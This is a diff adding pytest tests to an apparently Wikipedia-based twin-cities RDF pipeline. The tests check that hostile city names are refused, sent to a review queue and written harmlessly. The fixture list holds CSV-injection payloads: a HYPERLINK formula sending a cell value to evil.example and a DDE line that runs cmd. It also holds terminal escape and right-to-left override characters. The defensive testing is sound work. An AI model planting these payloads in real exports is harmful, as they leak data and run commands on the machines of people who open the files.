@@ -304,3 +304,57 @@ def test_the_world_layer_is_published_as_its_own_dataset_with_each_sources_licen
     # crawl: Isfahan-Baalbek 1, Tabriz-Baku 2, Tehran-Los Angeles 1; Wikipedia: Isfahan-Baalbek 1,
     # Tabriz-Kazan 1
     assert int(void.value(linkset, rdflib.URIRef(ns + "triples"))) == 6
+
+
+# Names a scraped Wikipedia list could carry: formulas a spreadsheet runs, an escape sequence that
+# retitles a terminal, a right-to-left override that reorders what a reader sees.
+HOSTILE_NAMES = [
+    '=HYPERLINK("http://evil.example/?"&A1,"click")',
+    "@SUM(A1:A9)",
+    "+cmd|' /C calc'!A0",
+    "-2+3",
+    "Teh\x1b]0;owned\x07ran",
+    "Isfa\u202ehan",
+]
+
+
+def test_hostile_names_are_refused_into_the_review_queue_and_written_harmless(tmp_path):
+    table = tmp_path / "twin-cities.csv"
+    lines = ["city1,country1,city2,country2", "Isfahan,Iran,Kazan,Russia"]
+    lines += [f'"{name.replace(chr(34), 2 * chr(34))}",Iran,Kazan,Russia' for name in HOSTILE_NAMES]
+    table.write_text("\n".join(lines) + "\n", encoding="utf-8")
+    out = tmp_path / "world"
+    world_run.run(wikipedia=table, places=FIXTURES / "populated-places.csv", out_dir=out, now=NOW)
+    import csv
+
+    from cityrdf.csvsafe import is_formula
+
+    review = list(csv.reader((out / "review.csv").open(encoding="utf-8", newline="")))
+    sssom = [
+        line.split("\t")
+        for line in (out / "resolution.sssom.tsv").read_text(encoding="utf-8").splitlines()
+        if not line.startswith("#")
+    ]
+    for cell in [c for row in review + sssom for c in row]:
+        assert not is_formula(cell), cell
+        assert not any(ch in cell for ch in "\x1b\x07\u202e"), cell
+    refused = [row for row in review if "not stated" in row[3]]
+    assert len(refused) == len(HOSTILE_NAMES)
+    assert all("city1: " in row[3] for row in refused)
+    graph = (out / "wikipedia.nq").read_text(encoding="utf-8")
+    for name in HOSTILE_NAMES:
+        assert name not in graph
+    assert "Isfahan" in graph  # the good row is stated
+
+
+def test_a_label_file_with_a_control_character_is_refused_with_its_line(tmp_path):
+    labels = tmp_path / "labels.tsv"
+    labels.write_text("Q42053\tIsfahan\nQ641\tVen\x1bice\n", encoding="utf-8")
+    with pytest.raises(BadInput, match=r"labels.tsv:2: label: contains a control character"):
+        world_run.run(
+            FIXTURES / "p190-pairs.tsv",
+            labels,
+            places=FIXTURES / "populated-places.csv",
+            out_dir=tmp_path / "world",
+            now=NOW,
+        )
